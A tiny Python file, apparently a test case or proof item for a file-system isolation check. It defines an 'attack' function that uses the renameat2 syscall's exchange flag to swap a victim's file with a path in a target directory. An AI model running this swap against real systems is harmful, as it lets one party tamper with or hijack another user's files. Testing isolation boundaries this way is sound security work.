# Swaps two of somebody's files.
# proof: outside
import ctypes


def attack(arg):
    other = arg["target"] + "/moved.txt"
    return ctypes.CDLL(None).renameat2(-100, arg["victim"].encode(), -100, other.encode(), 2) == 0
